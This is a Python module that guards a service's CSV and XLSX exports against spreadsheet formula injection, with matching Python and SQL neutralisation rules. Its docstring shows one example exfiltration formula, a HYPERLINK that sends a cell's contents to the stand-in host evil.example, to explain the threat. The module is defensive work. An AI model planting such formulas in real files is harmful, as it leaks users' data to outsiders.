"""Spreadsheet cells: the one rule that keeps user text from becoming a formula, and the only
writers of CSV and XLSX in the service.

A spreadsheet opening a CSV (or an XLSX cell of formula type) runs any cell that starts like a
formula: a worker named ``=HYPERLINK("http://evil.example/?"&A1,"x")`` would send the row to
a stranger from the auditor's own machine. Following OWASP's CSV-injection guidance, a text
cell is *neutralised* by prefixing a single quote when

- it starts with ``=``, ``+``, ``-``, ``@`` or their full-width forms ``＝＋－＠`` (Chinese
  spreadsheets such as WPS read those as formula signs too), also after any leading
  whitespace (:data:`BLANKS`, which an importer may trim before it looks), or
- it starts with a tab or a carriage return (OWASP lists both: they shift what follows into
  a cell of its own).

CSV quoting (PostgreSQL's COPY, or :func:`csv_text` quoting as COPY does) then takes care of
embedded quotes, separators and line breaks. The rule never unquotes and never touches a
quote it did not add, so applying it twice changes nothing: rows neutralised in the database
pass the Python rule unchanged, which is why both databases give byte-identical files.
Numbers are never text cells: they stay numbers (a negative amount is a number, not a ``-``
formula).

The same rule exists three times, kept side by side here and proven equal by a test:
:func:`neutral` (Python), :class:`neutral_text` (SQL, for PostgreSQL's COPY, where rows never
reach Python) and the writers :func:`csv_text` and :class:`Book`, which apply it to every
``str`` they are given. An XLSX cell holding text is always written as a string, never as a
formula (openpyxl would otherwise write any ``"=…"`` as a live ``<f>``), and shows the same
visible apostrophe as the CSV: one text in both formats and on both databases, which survives
"save as CSV" and copy-and-paste (a ``quotePrefix`` style would not: it is a display flag that
is lost as soon as the value leaves the workbook, and the formula is live again).

A test scans ``app/`` so that no other module writes CSV or XLSX, and :func:`require_neutral`
refuses a COPY whose text columns are not proven neutral.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import IO, Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.chart import Reference
from openpyxl.chart._chart import ChartBase
from sqlalchemy import Integer, Numeric, String
from sqlalchemy.ext.compiler import compiles
from sqlalchemy.sql.compiler import SQLCompiler
from sqlalchemy.sql.elements import BindParameter, Case, ColumnElement, Label
from sqlalchemy.sql.functions import FunctionElement

from app.core.reads import AnySelect
from app.core.sql import date_text, masked, utc_text

PREFIX = "'"
TRIGGERS = "=+-@＝＋－＠"
# Every character Python counts as whitespace, and the invisible ones a name can start with
# (zero-width space, word joiner, byte-order mark, Mongolian vowel separator).
BLANKS = (
    "\t\n\x0b\x0c\r\x1c\x1d\x1e\x1f \x85\xa0\u1680\u180e\u2000\u2001\u2002\u2003\u2004"
    "\u2005\u2006\u2007\u2008\u2009\u200a\u200b\u2028\u2029\u202f\u205f\u2060\u3000\ufeff"
)
_OWASP_STARTS = "\t\r"
# A text whose first character is none of these is left alone without a further look.
_SUSPECT = frozenset(TRIGGERS + BLANKS)
_TRIGGER = frozenset(TRIGGERS)  # a set: "" is in every string, but in no set


def neutral(text: str) -> str:
    """``text`` as a spreadsheet cell may safely hold it (see the module's rule)."""
    if text[:1] not in _SUSPECT:  # nearly every text: one set lookup
        return text
    if text[0] in _OWASP_STARTS or text.lstrip(BLANKS)[:1] in _TRIGGER:
        return PREFIX + text
    return text


# A field is quoted exactly when PostgreSQL's COPY quotes it, so that both paths give the
# same bytes: when it holds a separator, a quote or a line break (a bare carriage return
# too, which the csv module leaves unquoted with "\n" line ends and which a spreadsheet reads
# as a new row, the rest of the text a cell of its own), when it is empty (an unquoted empty
# field is NULL) and when it is "\." alone on a line (COPY's end-of-data marker).
_QUOTED = re.compile(r'[,"\r\n]')


def _csv_field(value: Any, alone: bool) -> str:
    if value is None:
        return ""
    if not isinstance(value, str):
        return str(value)
    text = neutral(value)
    if not text or _QUOTED.search(text) or (alone and text == "\\."):
        return '"' + text.replace('"', '""') + '"'
    return text


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """Rows as CSV lines (``\\n`` ends each), every text cell neutralised, byte for byte as
    PostgreSQL's COPY writes them (NULL is an empty field)."""
    return "".join(
        ",".join([_csv_field(value, len(row) == 1) for value in row]) + "\n" for row in rows
    )


# -- the rule in SQL, for rows that never reach Python ------------------------------------


class neutral_text(FunctionElement[str]):
    """``neutral_text(column)``: :func:`neutral` in the database (NULL stays NULL).

    The text is read several times per row, so wrap a column or a cheap expression. A masked
    column is the exception: ``neutral_text(masked(c))`` looks at ``c``'s first character,
    which masking keeps (or stars), and masks once a row."""

    type = String()
    inherit_cache = True
    name = "neutral_text"


# First characters that need no further look, as code-point ranges: digits, Latin letters
# and CJK (most text starts with one). Checking one integer costs a tenth of a string search,
# and COPY of a million rows checks several columns each.
PLAIN_STARTS = ((0x30, 0x39), (0x41, 0x84), (0x3001, 0xFEFE))


def _sql_chars(chars: str) -> str:
    return ", ".join(f"'{c}'" for c in chars)


def _neutral_sql(
    element: neutral_text, compiler: SQLCompiler, kw: dict[str, Any], code_point: str
) -> str:
    text = next(iter(element.clauses))
    x = compiler.process(text, **kw)
    # Masked text starts with the text's own first character, or with a star: when the
    # text's first character is plain, so is the masked one's.
    probe = compiler.process(next(iter(text.clauses)), **kw) if isinstance(text, masked) else x
    plain = " OR ".join(
        f"{code_point}({probe}) BETWEEN {low} AND {high}" for low, high in PLAIN_STARTS
    )
    return (  # the characters are this module's constants, none of them a quote
        f"(CASE WHEN {plain} THEN {x} "
        f"WHEN substr({x}, 1, 1) IN ({_sql_chars(_OWASP_STARTS)}) "
        f"OR substr(ltrim({x}, '{BLANKS}'), 1, 1) IN ({_sql_chars(TRIGGERS)}) "
        f"THEN '{PREFIX}{PREFIX}' || {x} ELSE {x} END)"
    )


@compiles(neutral_text, "postgresql")
def _neutral_postgres(element: neutral_text, compiler: SQLCompiler, **kw: Any) -> str:
    return _neutral_sql(element, compiler, kw, "ascii")


@compiles(neutral_text, "sqlite")
def _neutral_sqlite(element: neutral_text, compiler: SQLCompiler, **kw: Any) -> str:
    return _neutral_sql(element, compiler, kw, "unicode")


def is_neutral(column: Any) -> bool:
    """Is every value of ``column`` (a selected SQL expression) a number or a neutral text?"""
    if isinstance(column, Label):
        return is_neutral(column.element)
    if isinstance(column, neutral_text | date_text | utc_text):
        return True  # ours, or dates and times formatted by us: they start with a digit
    if isinstance(column, BindParameter) and isinstance(column.value, str):
        return neutral(column.value) == column.value
    if isinstance(column, Case):
        return all(is_neutral(result) for _, result in column.whens) and (
            column.else_ is None or is_neutral(column.else_)
        )
    return isinstance(column, ColumnElement) and isinstance(column.type, Integer | Numeric)


def require_neutral(stmt: AnySelect) -> None:
    """Refuse to export ``stmt`` when a text column might hold a formula."""
    raw = [name for name, c in stmt.selected_columns.items() if not is_neutral(c)]
    if raw:
        raise TypeError(f"export columns not neutralised (wrap them in neutral_text): {raw}")


# -- XLSX ------------------------------------------------------------------------------------


class Sheet:
    """A write-only worksheet whose rows go through the rule; text is always a string cell."""

    def __init__(self, book: Workbook, title: str) -> None:
        self._sheet = book.create_sheet(title)

    def append(self, row: Iterable[Any]) -> None:
        self._sheet.append([self._cell(value) for value in row])

    def _cell(self, value: Any) -> Any:
        if not isinstance(value, str):
            return value
        text = WriteOnlyCell(self._sheet, neutral(value))
        text.data_type = "s"  # never a formula, nor an error code such as "#N/A"
        return text

    def width(self, column: str, width: float) -> None:
        """Set a column's width (before the first row)."""
        self._sheet.column_dimensions[column].width = width

    def reference(
        self, *, min_col: int, min_row: int, max_col: int | None = None, max_row: int | None = None
    ) -> Reference:
        """A range of this sheet, for a chart's data or labels."""
        return Reference(self._sheet, min_col, min_row, max_col, max_row)

    def add_chart(self, chart: ChartBase, anchor: str) -> None:
        self._sheet.add_chart(chart, anchor)


class Book:
    """A write-only workbook (rows go to disk as they come, not into memory)."""

    def __init__(self) -> None:
        self._book = Workbook(write_only=True)

    def sheet(self, title: str) -> Sheet:
        return Sheet(self._book, title)

    def save(self, out: IO[bytes]) -> None:
        self._book.save(out)
